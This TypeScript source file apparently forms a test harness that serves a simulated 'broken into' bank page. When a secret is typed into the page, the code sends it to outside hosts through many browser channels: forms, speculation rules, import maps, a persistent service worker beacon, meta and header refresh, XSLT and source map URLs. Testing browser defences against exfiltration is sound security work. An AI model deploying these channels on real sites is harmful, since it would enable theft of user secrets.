/** The pages that try the ways, as the bank serves them after somebody has broken into it. */
import type { Way } from "./way.ts";
import { addressOf, hostOf, WAYS } from "./ways.ts";

/** What every script of a way may use. */
const HELP = `
const hexOf = (text) => [...new TextEncoder().encode(text)].map((byte) => byte.toString(16).padStart(2, "0")).join("");
const add = (html) => {
  const place = document.createElement("div");
  document.body.append(place);
  place.innerHTML = html;
  return place.firstElementChild;
};
const speculate = (rules) => {
  const script = document.createElement("script");
  script.type = "speculationrules";
  script.textContent = JSON.stringify(rules);
  document.head.append(script);
};
let frames = 0;
const form = (method, action, type = "", formaction = "", target = "frame" + ++frames) => {
  if (target !== "_top") add('<iframe name="' + target + '"></iframe>');
  const made = add('<form><input name=d><button></button></form>');
  made.method = method; made.action = action; made.target = target;
  if (type) made.enctype = type;
  made.elements[0].value = SECRET;
  const button = made.querySelector("button");
  if (formaction) button.setAttribute("formaction", formaction);
  made.requestSubmit(button);
};
let SECRET = "";
const trials = {};
async function attempt(id) {
  const { host, address, run } = WAYS[id];
  const hex = hexOf(SECRET);
  const url = "https://" + host + "/?d=" + encodeURIComponent(SECRET);
  trials[id] = "began";
  try { await run(SECRET, hex, url, host, address); trials[id] = "done"; } catch (error) { trials[id] = String(error); }
}
`;

const functions = (ways: readonly Way[]): string =>
  ways
    .map(
      (way) =>
        `${JSON.stringify(way.id)}: { host: ${JSON.stringify(hostOf(way))}, address: ${JSON.stringify(addressOf(way))}, run: async (secret, hex, url, host, address) => {${(way.script ?? "").replaceAll("</", "<\\/")}} }`,
    )
    .join(",\n");

const document = (title: string, ways: readonly Way[], more: string, head = ""): string => `<!doctype html>
<title>${title}</title>${head}
<textarea id=field spellcheck=true lang=en-US autofocus style="position:fixed;inset:0;width:100%;height:100%"></textarea>
<script>
const WAYS = { ${functions(ways)} };
${HELP}
${more}
</script>`;

/** The page with the field; it acts when what is typed ends with a full stop. */
export function typingPage(): string {
  const ways = WAYS.filter(({ place }) => place === "page" || place === "answer");
  const mapped = ways.find(({ id }) => id === "import-map");
  const map = mapped && { imports: { "mapped/": `https://${hostOf(mapped)}/` } };
  return document(
    "Bank",
    ways,
    `field.addEventListener("input", async () => {
      if (!field.value.endsWith(".") || SECRET) return;
      SECRET = field.value.slice(0, -1);
      localStorage.setItem("secret", SECRET);
      for (const id of Object.keys(WAYS)) { attempt(id); await new Promise((next) => setTimeout(next, 40)); }
      setTimeout(() => fetch("/tried", { method: "POST", body: JSON.stringify(trials) }), 3000);
    });
    fetch("/ready", { method: "POST" });`,
    `<script type=importmap>${JSON.stringify(map)}</script>`,
  );
}

/** A page that tries one way and may be gone afterwards. */
export function leavingPage(way: Way): string {
  return document(
    "Bank",
    [way],
    `SECRET = localStorage.getItem("secret");
    fetch("/left/${way.id}", { method: "POST" });
    setTimeout(() => attempt("${way.id}"), 150);`,
  );
}

/** Fields of the typing page: those that all ways ask for, each as a line of its own. */
export function typingPageFields(): Record<string, string[]> {
  const fields: Record<string, string[]> = {};
  for (const way of WAYS) {
    for (const [name, value] of Object.entries(way.fields?.(hostOf(way)) ?? {})) {
      fields[name] = [...(fields[name] ?? []), value];
    }
  }
  return fields;
}

const WORKER = `
  const url = decodeURIComponent((location.hash || location.search).slice(1));
  const send = () => fetch(url, { mode: "no-cors", method: "POST", body: url }).catch(() => {});
  addEventListener("install", (event) => event.waitUntil(send()));
  addEventListener("activate", (event) => event.waitUntil(new Promise((done) => setTimeout(done, 9000))));
  send(); setInterval(send, 1500);`;

/** What the other paths of the bank answer. @returns undefined for a path that is none of these */
export function otherAnswer(
  path: string,
  query: string,
): { status: number; fields: Record<string, string>; body: string } | undefined {
  const to = decodeURIComponent(query);
  const redirect = /^\/to\/(30[1-8])$/.exec(path)?.[1];
  if (redirect !== undefined) return { status: Number(redirect), fields: { Location: to }, body: "" };
  if (path === "/worker.js" || path === "/service-worker.js")
    return { status: 200, fields: { "Content-Type": "text/javascript" }, body: WORKER };
  if (path === "/refresh") return html(`<meta http-equiv=refresh content="0;url=${to}">`);
  if (path === "/refresh-header")
    return { status: 200, fields: { "Content-Type": "text/html", Refresh: `0; url=${to}` }, body: "x" };
  if (path === "/xslt") {
    const body = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${to.replaceAll("&", "&amp;")}"?><a/>`;
    return { status: 200, fields: { "Content-Type": "text/xml" }, body };
  }
  if (path === "/mapped.js") {
    const way = WAYS.find(({ id }) => id === "devtools");
    return {
      status: 200,
      fields: { "Content-Type": "text/javascript" },
      body: `//# sourceMappingURL=https://${way && hostOf(way)}/x.map`,
    };
  }
  return undefined;
}

const html = (body: string) => ({ status: 200, fields: { "Content-Type": "text/html" }, body });
